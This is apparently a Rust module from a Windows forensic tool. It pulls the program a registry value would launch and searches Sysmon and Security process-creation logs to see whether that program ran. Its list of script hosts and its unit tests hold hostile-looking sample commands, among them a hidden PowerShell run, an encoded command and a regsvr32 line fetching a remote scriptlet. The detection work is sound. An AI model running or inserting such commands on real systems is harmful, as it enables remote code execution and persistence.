//! Did the payload run? For each finding whose data names a program, a second pass looks for
//! process creations on the same host after the write: Sysmon Event ID 1 (`Image`,
//! `CommandLine`) and Security 4688 (`NewProcessName`, `CommandLine`). It stays fast the way
//! the main scan does: the payload names are searched in raw chunk bytes and only records that
//! hold one are rendered (the same pre-filter, with other words).

use crate::discover::EvidenceFile;
use crate::event::{event_record_id, event_time, RecordHeader, SECURITY_PROVIDER, SYSMON_PROVIDER};
use crate::finding::Finding;
use crate::prefilter::Needle;
use crate::reader::Reader;
use crate::rendered::Rendered;
use crate::scan::{run_units, FileSummary, Silent};
use jiff::Timestamp;
use serde::Serialize;
use std::collections::BTreeSet;
use std::path::PathBuf;

/// Endings that close a program or script path in value data.
const EXTENSIONS: &[&str] = &[
    ".exe", ".com", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta", ".dll",
    ".scr", ".cpl", ".msi",
];

/// Programs that run another file named in their arguments: for them the payload is that
/// file, so `rundll32.exe a.dll` is not "any rundll32 that ran".
const HOSTS: &[&str] = &[
    "rundll32.exe",
    "regsvr32.exe",
    "powershell.exe",
    "pwsh.exe",
    "cmd.exe",
    "wscript.exe",
    "cscript.exe",
    "mshta.exe",
    "msiexec.exe",
];

/// Shortest argument used to tell one script host run from another.
const MIN_MARKER: usize = 8;

/// What a registry value would run: the program, and for script hosts the file it is given
/// (or, without one, its longest argument).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Payload {
    /// The program's file name, lower-case (`evil.exe`, `rundll32.exe`).
    pub program: String,
    /// For script hosts, the file name of the script or library they run (`a.dll`), or else
    /// their longest argument of 8 characters or more (an encoded command), lower-case.
    pub argument: Option<String>,
}

impl Payload {
    /// The word searched for in the evidence: the argument when there is one.
    fn needle(&self) -> &str {
        self.argument.as_deref().unwrap_or(&self.program)
    }

    /// Whether a process start ran this payload.
    fn ran_in(&self, start: &ProcessStart) -> bool {
        let image = file_name(&start.image).to_ascii_lowercase();
        image == self.program
            && self
                .argument
                .as_ref()
                .is_none_or(|a| start.command_line.to_ascii_lowercase().contains(a.as_str()))
    }
}

fn file_name(path: &str) -> &str {
    path.rsplit(['\\', '/']).next().unwrap_or(path)
}

/// The first path in `text` and what follows it: quoted, a bare first word, or a path up to
/// a known extension.
fn first_path(text: &str) -> Option<(&str, &str)> {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c == ',');
    if let Some(quoted) = text.strip_prefix('"') {
        let end = quoted.find('"').unwrap_or(quoted.len());
        return Some((quoted.get(..end)?, quoted.get(end + 1..).unwrap_or("")));
    }
    let first_word = text.find(char::is_whitespace).unwrap_or(text.len());
    if let Some(word) = text.get(..first_word).filter(|w| !w.contains(['\\', '/'])) {
        // A bare program name (`rundll32.exe`, `powershell`): it ends at the first space.
        return (!word.is_empty()).then(|| (word, text.get(first_word..).unwrap_or("")));
    }
    // A path, which may hold spaces (`C:\Program Files\…\agent.exe -k`): it ends at the
    // first known extension.
    let lower = text.to_ascii_lowercase();
    let by_extension = EXTENSIONS
        .iter()
        .filter_map(|ext| {
            lower
                .match_indices(ext)
                .map(|(at, _)| at + ext.len())
                .find(|&end| {
                    lower
                        .get(end..)
                        .and_then(|after| after.chars().next())
                        .is_none_or(|c| c.is_whitespace() || c == ',' || c == '"' || c == ';')
                })
        })
        .min();
    let end = by_extension.unwrap_or_else(|| text.find(char::is_whitespace).unwrap_or(text.len()));
    let (path, rest) = (text.get(..end)?, text.get(end..).unwrap_or(""));
    (!path.is_empty()).then_some((path, rest))
}

/// The payload a value's data would run, if it names one.
pub fn payload(data: &str) -> Option<Payload> {
    let (first, rest) = first_path(data)?;
    let mut program = file_name(first).to_ascii_lowercase();
    if program.is_empty() {
        return None;
    }
    if !program.contains('.') {
        program.push_str(".exe");
    }
    let argument = if HOSTS.contains(&program.as_str()) {
        let words: Vec<&str> = rest
            .split(|c: char| c.is_whitespace() || c == ',')
            .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
            .filter(|w| !w.starts_with(['-', '/']) || w.contains('\\'))
            .collect();
        // The file it runs, else its longest argument (an encoded command, a URL): either way
        // something only this payload's command line holds.
        words
            .iter()
            .map(|w| file_name(w).to_ascii_lowercase())
            .find(|w| EXTENSIONS.iter().any(|ext| w.ends_with(ext)))
            .or_else(|| {
                words
                    .iter()
                    .filter(|w| w.len() >= MIN_MARKER)
                    .max_by_key(|w| w.len())
                    .map(|w| w.to_ascii_lowercase())
            })
    } else {
        None
    };
    Some(Payload { program, argument })
}

/// A process creation read from the evidence.
#[derive(Debug, Clone, PartialEq)]
pub struct ProcessStart {
    /// When it started.
    pub timestamp: Timestamp,
    /// `System/Computer`.
    pub host: String,
    /// 1 (Sysmon) or 4688 (Security).
    pub event_id: u16,
    /// The process image.
    pub image: String,
    /// Its command line ("" when not audited).
    pub command_line: String,
    /// The record's id.
    pub record_id: u64,
}

impl ProcessStart {
    /// Reads a Sysmon EID 1 or Security 4688 event from a rendered record.
    pub fn from_rendered(event: &Rendered, header: RecordHeader) -> Option<ProcessStart> {
        let provider = event.provider.as_deref()?;
        let event_id = event.event_id()?;
        let image = match (provider, event_id) {
            (p, 1) if p.eq_ignore_ascii_case(SYSMON_PROVIDER) => &event.data.image,
            (p, 4688) if p.eq_ignore_ascii_case(SECURITY_PROVIDER) => &event.data.new_process_name,
            _ => return None,
        };
        Some(ProcessStart {
            timestamp: event_time(event, header),
            host: event.computer.clone().unwrap_or_default(),
            event_id,
            image: image.clone().unwrap_or_default(),
            command_line: event.data.command_line.clone().unwrap_or_default(),
            record_id: event_record_id(event, header),
        })
    }
}

/// The first run of a finding's payload seen in the evidence.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Execution {
    /// When the process started (RFC 3339, UTC, in NDJSON).
    #[serde(serialize_with = "as_text")]
    pub timestamp: Timestamp,
    /// 1 (Sysmon process creation) or 4688 (Security).
    pub event_id: u16,
    /// The process image.
    pub image: String,
    /// Its command line.
    pub command_line: String,
    /// The evidence file it was read from.
    pub source_path: String,
    /// The record's id.
    pub record_id: u64,
}

fn as_text<S: serde::Serializer>(ts: &Timestamp, s: S) -> Result<S::Ok, S::Error> {
    s.collect_str(ts)
}

/// What the execution check did, for the summary.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct CheckStats {
    /// Distinct payload words searched for.
    pub payloads: usize,
    /// Process creations naming a payload that were read.
    pub process_starts: usize,
    /// Findings whose payload was seen running.
    pub seen: usize,
}

/// Fills `execution` for every finding with a payload: the first process creation on the
/// same host, at or after the write, whose image is the payload's program (and whose command
/// line names its argument). Reads again only the Sysmon and Security logs (process creations
/// are nowhere else) of the hosts with findings, and files whose host and log are unknown
/// (`summaries[i]` describes `files[i]`), rendering only records that name a payload.
pub fn check(
    files: &[EvidenceFile],
    summaries: &[FileSummary],
    findings: &mut [Finding],
    threads: usize,
    recover: bool,
) -> Result<CheckStats, String> {
    let hosts: Vec<&str> = findings.iter().map(|f| f.event.host.as_str()).collect();
    let files: Vec<EvidenceFile> = files
        .iter()
        .zip(summaries)
        .filter(|(_, summary)| {
            summary.identity.as_ref().is_none_or(|id| {
                id.records_processes() && hosts.iter().any(|h| h.eq_ignore_ascii_case(&id.host))
            })
        })
        .map(|(file, _)| file.clone())
        .collect();
    let words: BTreeSet<String> = findings
        .iter()
        .filter_map(|f| f.payload.as_ref())
        .map(|p| p.needle().to_string())
        .collect();
    let mut stats = CheckStats {
        payloads: words.len(),
        ..CheckStats::default()
    };
    if words.is_empty() {
        return Ok(stats);
    }
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    let reader = Reader::with_needle(
        Some(Needle::new(&words)?),
        recover,
        ProcessStart::from_rendered,
    );
    let units = run_units(&files, threads, &reader, &Silent, |_, evidence, batch| {
        let starts: Vec<(ProcessStart, PathBuf)> = batch
            .events
            .into_iter()
            .map(|e| (e.event, evidence.label()))
            .collect();
        (starts, 0)
    })?;
    let mut starts: Vec<(ProcessStart, PathBuf)> = units.into_iter().flatten().collect();
    starts.sort_by(|a, b| {
        (a.0.timestamp, &a.1, a.0.record_id).cmp(&(b.0.timestamp, &b.1, b.0.record_id))
    });
    stats.process_starts = starts.len();
    for finding in findings.iter_mut() {
        let Some(payload) = &finding.payload else {
            continue;
        };
        let written = finding.event.timestamp;
        let host = &finding.event.host;
        finding.execution = starts
            .iter()
            .find(|(s, _)| {
                s.timestamp >= written && s.host.eq_ignore_ascii_case(host) && payload.ran_in(s)
            })
            .map(|(s, path)| Execution {
                timestamp: s.timestamp,
                event_id: s.event_id,
                image: s.image.clone(),
                command_line: s.command_line.clone(),
                source_path: path.to_string_lossy().into_owned(),
                record_id: s.record_id,
            });
        stats.seen += usize::from(finding.execution.is_some());
    }
    Ok(stats)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(program: &str, argument: Option<&str>) -> Option<Payload> {
        Some(Payload {
            program: program.into(),
            argument: argument.map(Into::into),
        })
    }

    #[test]
    fn payloads_from_value_data() {
        assert_eq!(
            payload("rundll32.exe a.dll, DllMain"),
            p("rundll32.exe", Some("a.dll"))
        );
        assert_eq!(
            payload("\"C:\\Program Files\\Vendor\\agent.exe\" -k run"),
            p("agent.exe", None)
        );
        assert_eq!(
            payload("C:\\Program Files\\Vendor\\agent.exe -k run"),
            p("agent.exe", None)
        );
        assert_eq!(payload("C:\\ProgramData\\evil.exe"), p("evil.exe", None));
        assert_eq!(
            payload("cmd.exe /c start C:\\Users\\Public\\a.bat"),
            p("cmd.exe", Some("a.bat"))
        );
        assert_eq!(
            payload("powershell -nop -w hidden -File C:\\Users\\Public\\x.ps1"),
            p("powershell.exe", Some("x.ps1"))
        );
        assert_eq!(
            payload("powershell -enc SQBFAFgA"),
            p("powershell.exe", Some("sqbfafga"))
        );
        assert_eq!(payload("powershell -enc SQBF"), p("powershell.exe", None));
        assert_eq!(
            payload("regsvr32 /s /u /i:http://x/a.sct scrobj.dll"),
            p("regsvr32.exe", Some("scrobj.dll"))
        );
        assert_eq!(
            payload("rundll32.exe C:\\x\\b.dll,Start"),
            p("rundll32.exe", Some("b.dll"))
        );
        assert_eq!(payload("   "), None);
        assert_eq!(payload("\"\" -x"), None);
        assert_eq!(payload("\"C:\\dir\\\""), None);
        assert_eq!(payload(""), None);
    }

    #[test]
    fn a_run_needs_the_program_and_its_argument() {
        let start = |image: &str, cmd: &str| ProcessStart {
            timestamp: Timestamp::UNIX_EPOCH,
            host: "h".into(),
            event_id: 1,
            image: image.into(),
            command_line: cmd.into(),
            record_id: 1,
        };
        let dll = payload("rundll32.exe a.dll, DllMain").unwrap();
        assert!(dll.ran_in(&start(
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe  C:\\x\\A.DLL,DllMain"
        )));
        assert!(!dll.ran_in(&start(
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe shell32.dll,Control_RunDLL"
        )));
        let exe = payload("C:\\ProgramData\\evil.exe").unwrap();
        assert!(exe.ran_in(&start("C:\\ProgramData\\Evil.exe", "")));
        assert!(!exe.ran_in(&start("C:\\ProgramData\\notevil.exe", "")));
    }
}
